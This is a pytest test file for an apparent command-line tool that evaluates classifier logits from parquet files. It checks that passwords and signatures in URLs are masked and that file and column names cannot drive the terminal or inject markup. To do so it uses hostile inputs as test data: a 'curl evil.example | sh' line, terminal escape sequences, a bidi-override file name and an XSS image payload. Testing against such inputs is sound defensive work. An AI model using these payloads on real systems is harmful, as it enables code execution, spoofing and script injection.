"""Names that come from files and users: cleaned where they are shown, without passwords, and usable in options."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import scipy.special

import dumps
import fastxent as fx
from fastxent.io.storage.files import File, find_files
from fastxent.names import public_name
from tests.cli.running import Cli

X = np.random.default_rng(0).normal(size=(60, 3)).astype(np.float32)
ESCAPE, FORGED, BIDI = "\x1b]0;owned\x07\x1b[2J", "x\n\nrun:\n  curl evil.example | sh", "\u202egnp.exe"
HTML = "<img src=x onerror=alert(1)>|[a](b)"


def dump(path: Path, logits: Any = X, **columns: Any) -> Path:
    rows = logits if isinstance(logits, pa.Array) else dumps.lists(logits, sized=True)
    pq.write_table(pa.table({"logits": rows, "target": np.arange(60) % 3, **columns}), path)
    return path


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("s3://AKIA:ab%2Fc@bucket/x", "s3://***@bucket/x"),
        ("s3://AKIA:ab/c@bucket/x", "s3://***@bucket/x"),
        ("https://token@host/x", "https://***@host/x"),
        ("simplecache::https://u:p@ss@h/x", "simplecache::https://***@h/x"),
        ("https://a.blob.core/x?sv=1&sig=ab%3D&se=2", "https://a.blob.core/x?sv=1&sig=***&se=2"),
        (
            "https://h/x?X-Amz-Credential=a/b&X-Amz-Security-Token=z&X-Amz-Signature=0f&n=1",
            "https://h/x?X-Amz-Credential=***&X-Amz-Security-Token=***&X-Amz-Signature=***&n=1",
        ),
        ("postgresql+psycopg2://u:pw@h/db", "postgresql+psycopg2://***@h/db"),
        *((same, same) for same in (
            "s3://bucket/a@2.parquet", "http://host:8080/a@b", "hf://datasets/u/r@rev/a", "abfs://box@account/a",
            "http://h/x?partition_key=3", "C:/x@y",
        )),
    ],
)  # fmt: skip
def test_passwords_in_urls(url: str, shown: str) -> None:
    assert public_name(url) == shown
    assert public_name(f"cannot read '{url}': no")[len("cannot read '") :].startswith(shown[:20])


def test_passwords_reach_no_result_and_no_error(cli: Cli) -> None:
    import fsspec

    url = "memory://u:secret@/dump.parquet?sig=secret"
    assert "secret" not in File(url, "dump.parquet", pa.fs.SubTreeFileSystem("/", pa.fs.LocalFileSystem())).name
    assert File("/tmp/a?sig=b", "/tmp/a?sig=b").name == "/tmp/a?sig=b", "a file of this machine is called what it is"
    with pytest.raises(fx.FastxentError) as raised:
        find_files("foo://u:secret@host/dump.parquet")
    assert "secret" not in str(raised.value)
    code, out, err = cli("eval", "foo://u:secret@host/x", "--log", "mlflow:http://u:secret@127.0.0.1:9")
    assert (code, "secret" in out + err) == (2, False)
    with fsspec.open("memory://box/d.parquet?sig=secret", "wb") as file:
        pq.write_table(pa.table({"logits": list(X), "target": np.arange(60) % 3}), file)
    result = fx.evaluate("memory://box/d.parquet?sig=secret")
    assert "secret" not in result.to_json() + str(result)


def test_names_cannot_drive_the_terminal(cli: Cli, tmp_path: Path) -> None:
    texts = [ESCAPE, HTML, BIDI] * 20
    path = dump(tmp_path / "a.parquet", **{ESCAPE: texts, FORGED: texts, BIDI: texts, "s": texts})
    for arguments in (
        ["inspect", path], ["inspect", path, "--format", "json"], ["eval", path, "--by", "nope"],
        ["eval", tmp_path / ESCAPE.replace("/", "")], ["eval", path, "--by", "s"], ["eval", path, "--cluster", ESCAPE],
        ["eval", path, "--by", "s", "--format", "json"], ["eval", path, "--by", "s", "--format", "markdown"],
        ["convert", path, tmp_path / f"{BIDI}.parquet", "--keep", ""],
    ):  # fmt: skip
        out, err = cli(*arguments)[1:]
        for line in (out + err).splitlines():
            assert line.isprintable(), (arguments, line)
        assert "\nrun:\n  curl" not in out
    out = cli("eval", path, "--by", "s", "--format", "json")[1]
    assert set(json.loads(out)["slices"]["s"]) == {ESCAPE, HTML, BIDI}, "JSON holds what the file holds"
    out = cli("eval", path, "--by", "s", "--format", "markdown")[1]
    assert "&lt;img src=x onerror=alert(1)&gt;\\|\\[a\\](b)" in out


def test_names_with_commas(cli: Cli, tmp_path: Path) -> None:
    path = dump(tmp_path / "a.parquet", label=["tench, Tinca", "eel", "ray"] * 20, **{"a,b": ["x", "y"] * 30})
    (tmp_path / "names.txt").write_text("\ufefftench, Tinca\r\neel\r\nray\r\n\r\n", encoding="utf-8")
    (tmp_path / "names.json").write_text('["tench, Tinca",\n "eel", "ray"]')
    given = [f"@{tmp_path}/names.txt", f"@{tmp_path}/names.json", '["tench, Tinca", "eel", "ray"]']
    for classes in given:
        code, out, err = cli("eval", path, "--target", "label", "--classes", classes, "--format", "json")
        assert (code, err) == (0, "")
        assert json.loads(out)["config"]["classes"] == ["tench, Tinca", "eel", "ray"]
    code, out, err = cli("eval", path, "--by", '["a,b"]', "--format", "json")
    assert (code, list(json.loads(out)["slices"])) == (0, ["a,b"])
    (tmp_path / "names.txt").write_text("tench\n\nray\n")
    code, out, err = cli("eval", path, "--target", "label", "--classes", f"@{tmp_path}/names.txt")
    assert (code, "line 2 is empty" in err) == (2, True)
    (tmp_path / "weights.txt").write_text("1, 2\n3")
    for weights in (f"@{tmp_path}/weights.txt", "[1, 2, 3]", "1,2,3"):
        code, out, _ = cli("eval", path, "--class-weight", weights, "--class-mask", "[true, 1, true]", "-o", "-")
        assert (code, json.loads(out)["config"]["class_weight"]) == (0, [1.0, 2.0, 3.0])


P = np.exp(X) / np.exp(X).sum(1, keepdims=True)
BITS = dumps.lists((X.view(np.uint32) >> 16).astype(np.uint16), sized=True)


@pytest.mark.parametrize(
    ("logits", "columns", "expected"),
    [
        (X, {}, ""),
        (BITS, {}, " --logits-dtype bfloat16"),
        (P, {}, " --input probs"),
        (np.log(P), {}, ""),
        (X, {"text": pa.array([f"t{i}" for i in range(60)]).dictionary_encode()}, ""),
        (X, {"kind": pa.array(["a", "b"] * 30).dictionary_encode()}, " --by kind"),
        (X, {"a,b": [True, False] * 30}, """ --by '["a,b"]'"""),
        (X, {"@x": [True, False] * 30, "a b": [True, False] * 30}, """ --by '["@x"]' --by 'a b'"""),
        (X, {"\x1b": [True, False] * 30, "": [True, False] * 30}, ""),
        (X, {"label": ["x", "y"] * 30}, ""),
    ],
)
def test_the_line_of_inspect_runs(
    logits: Any, columns: dict[str, Any], expected: str, cli: Cli, tmp_path: Path
) -> None:
    path = dump(tmp_path / "a b.parquet", logits, **columns)
    line = cli("inspect", path)[1].splitlines()[-1].strip()
    assert line == f"fastxent eval '{path}'{expected}"
    code, _, err = cli(*shlex.split(line)[1:])
    assert (code, err) == (0, "")


@pytest.mark.parametrize(
    ("scores", "line"),
    [
        ({"logits": list(X)}, "--metrics entropy,confidence,z_loss"),
        ({"x": list(scipy.special.softmax(X, axis=1))}, "--logits x --input probs --metrics entropy,confidence,z_loss"),
        ({"p": np.linspace(0, 1, 60)}, "--logits p --input probs --metrics entropy,mean_prediction"),
    ],
)
def test_the_line_of_inspect_runs_without_targets(scores: dict[str, Any], line: str, cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({**scores, "n_bytes": np.arange(60)}), path)
    out = cli("inspect", path)[1]
    assert "targets    no column looks like them; name one with --target" in out
    found = out.splitlines()[-1].strip()
    assert found == f"fastxent eval {path} {line}"
    code, _, err = cli(*shlex.split(found)[1:])
    assert (code, err) == (0, "")


def test_inspect_of_names_that_stand_twice_texts_and_many(cli: Cli, tmp_path: Path) -> None:
    half = ["a", "b"] * 30
    table = pa.Table.from_arrays([pa.array(list(X)), pa.array(half), pa.array(half), pa.array(half)],
                                 names=["probs", "lang", "lang", "label"])  # fmt: skip
    pq.write_table(table, tmp_path / "a.parquet")
    last = cli("inspect", tmp_path / "a.parquet")[1].splitlines()[-1]
    line = f"fastxent eval {tmp_path / 'a.parquet'} --logits probs --target label --classes @NAMES"
    assert last == f"The targets are strings; run, with a text file of one class name per line as NAMES: {line}"
    path = dump(tmp_path / "b.parquet", **{f"flag{i}": [True] * 60 for i in range(100)})
    code, out, _ = cli("inspect", path)
    assert (code, max(map(len, out.splitlines()[:-1])) < 200) == (0, True)
    assert "flag9, … and 90 more" in out
    assert "  … and 72 more" in out
    assert len(cli("eval", path, "--by", "nothing_like_it")[2]) < 400
